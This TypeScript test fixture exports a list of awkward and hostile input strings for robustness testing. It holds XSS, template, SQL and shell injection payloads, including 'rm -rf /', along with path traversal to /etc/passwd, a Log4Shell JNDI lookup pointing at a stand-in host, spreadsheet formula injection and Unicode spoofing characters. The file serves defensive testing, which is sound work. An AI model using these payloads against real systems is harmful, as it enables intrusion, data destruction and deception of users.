/**
 * Texts that have broken programs. Whatever among them makes an element marks
 * it with data-naughty, and whatever runs sets window.naughty.
 */
export const naughty: string[] = [
  // HTML and script
  '<script data-naughty>naughty=1</script>',
  '<img src=x data-naughty onerror=naughty=1>',
  '"><svg data-naughty onload=naughty=1>',
  '\'><a data-naughty href=javascript:naughty=1>x</a>',
  '</title></textarea></style><script>naughty=1</script>',
  '<iframe data-naughty srcdoc="<script>parent.naughty=1</script>">',
  '<style data-naughty>*{display:none}</style>',
  '<base data-naughty href="https://elsewhere.example/">',
  '<meta data-naughty http-equiv=refresh content="0;url=https://elsewhere.example/">',
  '<!--', ']]>', '&lt;b&gt;&amp;&#x3C;i data-naughty&#x3E;',
  'javascript:naughty=1',
  'data:text/html,<script>naughty=1</script>',
  '\u003cimg src=x onerror=naughty=1\u003e',
  '" onmouseover="naughty=1" data-naughty="',
  '`;naughty=1;//',
  // Templates and placeholders
  '{{constructor.constructor("naughty=1")()}}', '${naughty=1}', '#{naughty=1}', '<%= naughty=1 %>', '{{count}}', '$t(save)', '%s %d %n', '{0}', '$& $1 \\1',
  // SQL, shells, paths, logs
  "'; DROP TABLE contact; --", "' OR '1'='1", '"; rm -rf /; "', '$(touch naughty)', '../../../../etc/passwd', 'C:\\con\\con', '${jndi:ldap://elsewhere.example/a}', 'first\r\nlevel=ERROR msg=forged',
  // Formulas
  '=HYPERLINK("https://elsewhere.example","x")', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1',
  // Unicode
  '\u202Egnp.exe', '\u2066\u202Eabc\u2069', 'zero\u200Bwidth\u200D\u2060\uFEFF', '\u0000null', 'bell\u0007', '\uD83D half', '\uDE00\uD83D', '\u0085\u2028\u2029',
  '👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚀', 'Z̸̡͎̺̮͕̬̙ͅa̵͘͝l̷̑͌g̶̔͐o̴͋͠', '田中さんにあげて下さい', 'مرحبا بالعالم', 'שלום', 'İıſßﬀǅ', '１２３', '\uFDD0\uFFFE\uFFFF', '𝕳𝖔𝖑𝖉', '❤️'.repeat(60),
  // Long, empty, and what looks like something else
  'x'.repeat(10_000), 'Wolfeschlegelsteinhausenbergerdorff'.repeat(8), ' ', '\u3000', 'null', 'undefined', 'NaN', 'true', '[object Object]', '__proto__', 'constructor', '-0', '1e309', '0x10', '1/0', '9'.repeat(40), '2026-02-30', '∞',
]
